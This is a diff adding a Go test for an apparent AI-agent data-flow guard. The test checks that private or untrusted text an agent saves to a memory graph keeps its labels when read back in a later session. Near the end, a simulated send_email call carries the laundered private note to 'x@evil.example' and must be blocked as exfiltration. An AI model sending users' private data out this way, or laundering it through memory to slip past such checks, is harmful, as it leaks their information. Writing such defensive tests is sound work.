@@ -1,0 +1,87 @@
+package engine
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+
+	"github.com/weir-sec/weir/internal/flow"
+)
+
+// TestReadBack: what an agent writes to a local store while it holds
+// private or untrusted data comes back with those labels, in a later
+// session too, and only what it wrote does; the write itself is allowed.
+func TestReadBack(t *testing.T) {
+	h := hasher(t)
+	pol := mustPolicy(t, "version: 1\n")
+	store := ToolLabels{} // a memory graph: neither private, untrusted nor a sink
+	graph := func(obs ...string) json.RawMessage {
+		var b strings.Builder
+		b.WriteString(`{"entities":[{"name":"notes","entityType":"doc","observations":[`)
+		for i, o := range obs {
+			if i > 0 {
+				b.WriteByte(',')
+			}
+			q, _ := json.Marshal(o)
+			b.Write(q)
+		}
+		b.WriteString("]}]}")
+		return textResult(b.String())
+	}
+	// Session A reads the note and keeps it in the memory graph.
+	a := session(t, h, notes)
+	save := Call{Server: "memory", Tool: "create_entities", Labels: store, Args: args("observations", noteText)}
+	d := decide(pol, h, a, save)
+	if d.Verdict != flow.Allow {
+		t.Fatalf("saving private text to a local store: %s (%s: %s), want allowed", d.Verdict, d.Rule, d.Reason)
+	}
+	if d.Written == nil || d.Written.Labels != flow.Private || len(d.Written.Prints) == 0 {
+		t.Fatalf("written = %+v, want the saved text's fingerprints, private", d.Written)
+	}
+	// An untrusted page saved the same way stays untrusted.
+	wp := decide(pol, h, session(t, h, web), Call{Server: "memory", Tool: "create_entities", Labels: store, Args: args("observations", pageText)})
+	if wp.Written == nil || !wp.Written.Labels.Has(flow.Untrusted) {
+		t.Fatalf("written from a web page = %+v, want untrusted", wp.Written)
+	}
+	// Ordinary text written in an untainted session leaves nothing.
+	if d := decide(pol, h, session(t, h), Call{Server: "memory", Tool: "create_entities", Labels: store, Args: args("observations", noteText)}); d.Written != nil {
+		t.Fatalf("written without taint = %+v", d.Written)
+	}
+
+	written := []*flow.Observation{d.Written, wp.Written}
+	for _, tt := range []struct {
+		name   string
+		result json.RawMessage
+		want   flow.Labels
+	}{
+		{"the note comes back private", graph("standup moved", noteText), flow.Private},
+		{"the page comes back untrusted", graph(pageText), flow.Untrusted},
+		{"other text comes back as it is", graph("standup moved to ten", "buy milk"), 0},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			// Session B, later, has read nothing else.
+			r := Decide(Inputs{Policy: pol, Hasher: h}, Result{Server: "memory", Tool: "read_graph", Raw: tt.result, At: 10, Written: written})
+			var got flow.Labels
+			for _, o := range r.Delta.Observations {
+				got |= o.Labels
+			}
+			if got != tt.want {
+				t.Fatalf("read back with labels %v, want %v (%s)", got, tt.want, r.Reason)
+			}
+			if tt.want != 0 && r.Rule != RuleReadBack {
+				t.Errorf("rule %q, want %s", r.Rule, RuleReadBack)
+			}
+			if tt.want != flow.Private {
+				return
+			}
+			var b flow.Session
+			for i, o := range r.Delta.Observations {
+				b.Apply(int64(i+1), o)
+			}
+			leak := decide(pol, h, &b, Call{Server: "mail", Tool: "send_email", Labels: ToolLabels{Labels: flow.Sink}, Args: args("to", "x@evil.example", "body", noteText)})
+			if leak.Verdict != flow.Block || leak.Rule != RuleExfiltration || !strings.Contains(leak.Reason, "memory/read_graph") {
+				t.Errorf("sending the laundered note: %s (%s: %s), want blocked as exfiltration from memory/read_graph", leak.Verdict, leak.Rule, leak.Reason)
+			}
+		})
+	}
+}
